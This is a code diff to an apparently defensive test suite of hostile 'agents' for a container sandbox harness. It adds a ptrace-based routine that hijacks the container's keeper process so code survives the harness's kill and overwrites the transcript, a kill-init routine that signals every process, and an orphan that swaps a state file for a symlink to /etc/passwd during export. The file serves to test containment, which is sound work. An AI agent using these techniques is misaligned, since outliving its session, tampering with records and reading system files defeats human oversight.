@@ -146,15 +146,49 @@ def stdout_flood() -> None:
             os.write(2, ebuf)
 
 
+def _alive(pid: int) -> bool:
+    try:
+        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] != "Z"
+    except (OSError, IndexError):
+        return False
+
+
 def _orphan_main(kind: str) -> None:
     """Runs in an orphan (re-exec'd with MARKER in its argv so the host can see it)."""
     ignore_signals()
+    if kind == "hijacked":
+        # we are the container's keeper process, taken over: wait until the harness has
+        # killed the workload (the agent and the sacrificial orphan), then tamper
+        devnull = os.open("/dev/null", os.O_RDWR)
+        for fd in (0, 1, 2):
+            os.dup2(devnull, fd)
+        watched = [int(x) for x in sys.argv[4].split(",") if x]
+        t0 = time.time()
+        while any(_alive(p) for p in watched):
+            time.sleep(0.005)
+        n = 0
+        while True:
+            n += 1
+            try:
+                with open(TRANSCRIPT + ".new", "w") as f:
+                    f.write(json.dumps({"task": "hijack-keeper", "event": "survived-kill-tree", "pid": os.getpid(), "n": n,
+                                        "after_s": round(time.time() - t0, 3)}) + "\n")
+                os.replace(TRANSCRIPT + ".new", TRANSCRIPT)
+            except OSError:
+                pass
+            time.sleep(0.005)
     if kind == "quiet":
         # let go of the agent's stdout: the exec ends when the agent exits, this keeps running
         devnull = os.open("/dev/null", os.O_RDWR)
         for fd in (0, 1, 2):
             os.dup2(devnull, fd)
-        saved = open(STATE, "rb").read() if os.path.isfile(STATE) else b""
+        try:  # never follow a symlink another orphan put there: copy only our own state
+            fd = os.open(STATE, os.O_RDONLY | os.O_NOFOLLOW)
+            saved = os.read(fd, 1 << 24)
+            os.close(fd)
+        except OSError:
+            saved = b""
+        tag = str(os.getpid())
         n = 0
         while True:
             n += 1
@@ -163,7 +197,7 @@ def _orphan_main(kind: str) -> None:
                     f.write(str(n))
                 # flip the state between a symlink to /etc/passwd and a regular file, hoping
                 # the export catches the symlink or a half-written file
-                tmp = os.path.join(WORK, ".flip")
+                tmp = os.path.join(WORK, ".flip" + tag)
                 if n % 2:
                     os.symlink("/etc/passwd", tmp)
                 else:
@@ -240,6 +274,109 @@ def cpu_threads() -> None:
         threading.Thread(target=burn, daemon=True).start()
     while True:
         time.sleep(3600)
+
+
+def _container_procs() -> dict[int, str]:
+    out = {}
+    for p in os.listdir("/proc"):
+        if p.isdigit():
+            try:
+                out[int(p)] = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode().strip()
+            except OSError:
+                pass
+    return out
+
+
+def kill_init() -> None:
+    """Signal every process we may (kill -1) and the init itself: if the container's init
+    and its keeper run as our uid, the container dies under the harness."""
+    before = _container_procs()
+    res = {}
+    for name, pid, sig in (("kill(1, SIGTERM)", 1, signal.SIGTERM), ("kill(-1, SIGKILL)", -1, signal.SIGKILL)):
+        try:
+            os.kill(pid, sig)
+            res[name] = "ok"
+        except OSError as e:
+            res[name] = err_name(e)
+    time.sleep(0.5)
+    record({"event": "kill-init", "signals": res, "before": sorted(before.values()), "after": sorted(_container_procs().values())})
+
+
+class _Regs(ctypes.Structure):  # struct user_regs_struct, x86_64
+    _fields_ = [(n, ctypes.c_ulonglong) for n in (
+        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
+        "fs_base gs_base ds es fs gs").split()]
+
+
+def _hijack(pid: int, argv: list[str]) -> str:
+    """Make process ``pid`` (same uid, blocked in a syscall) execve ``argv``: attach with
+    ptrace, write the strings below its stack pointer, point rip back at its `syscall`."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    libc.ptrace.restype = ctypes.c_long
+    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
+        return "attach:" + errno.errorcode.get(ctypes.get_errno(), "?")
+    try:
+        os.waitpid(pid, 0x40000000)  # __WALL
+        regs = _Regs()
+        if libc.ptrace(12, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_GETREGS
+            return "getregs:" + errno.errorcode.get(ctypes.get_errno(), "?")
+        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
+            mem.seek(regs.rip - 2)
+            if mem.read(2) != b"\x0f\x05":
+                return "not stopped after a syscall instruction"
+            base = (regs.rsp - 8192) & ~0xF
+            blob, ptrs = b"", []
+            for a in argv:
+                ptrs.append(base + len(blob))
+                blob += a.encode() + b"\0"
+            arr = (base + len(blob) + 15) & ~0xF
+            mem.seek(base)
+            mem.write(blob)
+            mem.seek(arr)
+            mem.write(b"".join(p.to_bytes(8, "little") for p in ptrs) + b"\0" * 8)
+        regs.rip -= 2
+        regs.rax, regs.orig_rax = 59, (1 << 64) - 1  # execve; no syscall restart
+        regs.rdi, regs.rsi, regs.rdx = ptrs[0], arr, 0
+        if libc.ptrace(13, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_SETREGS
+            return "setregs:" + errno.errorcode.get(ctypes.get_errno(), "?")
+        return "hijacked"
+    except OSError as e:
+        return err_name(e)
+    finally:
+        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+
+
+def hijack_keeper() -> None:
+    """Take over the container's long-lived keeper process (`sleep infinity`, which the
+    harness spares when it kills the workload) with ptrace, so code of ours survives the
+    kill and runs while the final state is exported. A sacrificial ordinary orphan holds
+    stdout so the harness does kill the tree; the hijacked keeper reports whether it
+    outlived that kill by writing into the transcript."""
+    ignore_signals()
+    procs = _container_procs()
+    keeper = [p for p, c in procs.items() if c == "sleep infinity"]
+    res: dict = {"keeper": keeper, "uids": {}}
+    for p in (1, *keeper):
+        try:
+            res["uids"][p] = [ln.split()[1] for ln in open(f"/proc/{p}/status") if ln.startswith("Uid:")][0]
+        except (OSError, IndexError):
+            res["uids"][p] = None
+    pid = os.fork()
+    if pid == 0:  # a sacrificial ordinary orphan that holds stdout
+        os.setsid()
+        if os.fork() == 0:
+            os.execv(sys.executable, [sys.executable, __file__, "--orphan", "loud", MARKER])
+        os._exit(0)
+    os.waitpid(pid, 0)
+    time.sleep(0.2)
+    loud = [p for p, c in _container_procs().items() if "--orphan loud" in c]
+    res["sacrificial"] = loud
+    res["hijack"] = {k: _hijack(k, [sys.executable, __file__, "--orphan", "hijacked", MARKER, ",".join(map(str, [os.getpid(), *loud]))])
+                     for k in keeper} if keeper else "no keeper found"
+    time.sleep(0.3)
+    res["after"] = sorted(_container_procs().values())
+    record({"event": "hijack", **res})
 
 
 # --------------------------------------------------------------------------- network
@@ -517,6 +654,8 @@ AGENTS = {
     "sigterm-orphans": sigterm_orphans,
     "sleep-forever": sleep_forever,
     "cpu-threads": cpu_threads,
+    "kill-init": kill_init,
+    "hijack-keeper": hijack_keeper,
     "network-egress": network_egress,
     "write-system": write_system,
     "export-symlink-passwd": export_symlink_passwd,
